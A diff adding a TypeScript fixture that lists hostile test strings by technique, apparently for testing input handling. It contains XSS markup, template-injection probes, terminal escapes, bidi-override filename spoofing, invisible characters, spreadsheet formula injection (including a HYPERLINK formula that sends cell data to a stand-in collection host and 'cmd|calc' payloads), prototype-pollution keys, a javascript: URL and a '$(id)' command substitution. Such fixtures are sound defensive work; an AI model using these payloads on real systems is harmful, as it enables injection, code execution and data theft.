@@ -1,0 +1,25 @@
+/** Texts that try to be something else, by what they try. */
+export const payloads: ReadonlyMap<string, string> = new Map([
+  [
+    'markup',
+    '"><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)></textarea></title>',
+  ],
+  ['a template', '{{7*7}}${alert(4)}<%= 7*7 %>#{7*7}'],
+  ['a terminal sequence', '\u001b[2J\u001b[31mred\u001b]0;owned\u0007\u009b1m\u0000\u0008end'],
+  ['a direction override', 'invoice\u202efdp.exe\u202c \u2066isolated\u2069 \u200fmark'],
+  ['characters of no width', 'ze\u200bro\u200c\u200d\u2060\ufeff\u00ad \u2028\u2029 end'],
+  ['tags that nobody sees', 'tag\u{e0001}\u{e0041}\u{e007f} end'],
+  ['a flood of marks', `Z${'\u0335\u0352\u0489'.repeat(300)}algo`],
+  ['halves of characters', 'half \ud83d and \ude00 half'],
+  ['a formula', '=HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open")'],
+  ['a formula behind a tab', '\t=1+1'],
+  ['a formula in wide letters', '\uff1dcmd|calc!A1'],
+  ['a formula behind nothing', '\u200b@SUM(1+1)'],
+  ['a formula with a sign', '-2+3+cmd|calc!A1'],
+  ['a quote and a new line', '",;\r\n"=1+1'],
+  ['a member of every object', '__proto__'],
+  ['the maker of every object', 'constructor'],
+  ['an address that runs', 'javascript:alert(5)'],
+  ['a path', '../../x.html?a=b#c|`$(id)`'],
+  ['a long line', 'long '.padEnd(200_000, 'x')],
+]);
